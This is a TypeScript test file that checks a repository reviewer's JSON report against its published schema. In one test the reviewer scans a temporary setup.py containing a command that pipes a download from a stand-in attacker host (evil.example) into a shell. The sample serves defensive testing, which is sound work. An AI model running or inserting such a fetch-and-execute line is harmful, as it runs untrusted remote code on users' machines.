// The JSON report follows its published schema (schema/report.schema.json, generated from src/report/json-schema.ts):
// checked with ajv on reports of both kinds of review, through the real reviewer for a local scan.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { JSON_REPORT_FORMAT, renderJsonReport } from '../../src/report/json.js';
import { createReviewer } from '../../src/review/reviewer.js';
import { input, sample } from './fixtures.js';

const schema = JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8')) as Record<string, unknown>;
const ajv = new Ajv2020({ strict: true, allErrors: true });
ajv.addFormat('date-time', (s: string) => !Number.isNaN(Date.parse(s)));
const validate = ajv.compile(schema);
const problems = (doc: unknown): string[] => (validate(doc) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath || '$'}: ${e.message ?? e.keyword}`));

describe('the JSON report and its published schema', () => {
  test('is versioned and names its format in the schema', () => {
    const doc = JSON.parse(renderJsonReport(sample(), new Date(0))) as { format: number };
    expect(doc.format).toBe(JSON_REPORT_FORMAT);
    expect((schema.properties as Record<string, { const?: number }>).format?.const).toBe(JSON_REPORT_FORMAT);
  });

  test('an allowlist review with errors, removals and signing validates', () => {
    const report = { ...sample(), errors: [{ file: 'approved-models.yaml', line: 3, column: 5, message: 'x', help: 'y' }], removed: [{ repo: 'a/b', revision: 'c'.repeat(40), line: 2 }], signing: [{ repo: 'a/b', revision: 'c'.repeat(40), status: 'signed' as const, detail: 'sig' }], warnings: ['w'] };
    expect(problems(JSON.parse(renderJsonReport(report, new Date(0))))).toEqual([]);
  });

  test('a local scan through the real reviewer validates', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mg-json-'));
    try {
      await writeFile(join(dir, 'setup.py'), 'import os\nos.system("curl https://evil.example/x | sh")\n');
      const { report } = await createReviewer().reviewLocal({ paths: ['.'], cwd: dir, allow: [], policyText: null });
      expect(problems(JSON.parse(renderJsonReport(report, new Date())))).toEqual([]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test('the schema is a real constraint: a report with an unknown verdict word or field fails', () => {
    const doc = JSON.parse(renderJsonReport(input([]), new Date(0))) as Record<string, unknown>;
    expect(problems({ ...doc, verdict: 'pass' }).length).toBeGreaterThan(0);
    expect(problems({ ...doc, extra: 1 }).length).toBeGreaterThan(0);
  });
});
